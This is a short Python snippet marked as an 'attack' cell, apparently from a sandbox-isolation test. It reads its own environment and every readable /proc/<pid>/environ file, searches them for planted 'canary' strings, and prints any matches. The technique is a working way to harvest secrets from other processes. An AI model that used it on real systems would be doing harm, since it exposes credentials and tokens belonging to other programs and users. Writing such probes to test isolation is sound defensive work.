# Reads environment variables: its own, and through /proc those of every process it can see.
# %% attack
import os
import re
from pathlib import Path

found = set(re.findall(r"canary-\w+-[0-9a-f]{16}", str(dict(os.environ))))
for path in Path("/proc").glob("[0-9]*/environ"):
    try:
        found |= set(re.findall(rb"canary-\w+-[0-9a-f]{16}", path.read_bytes()))
    except OSError:
        pass
print(found)
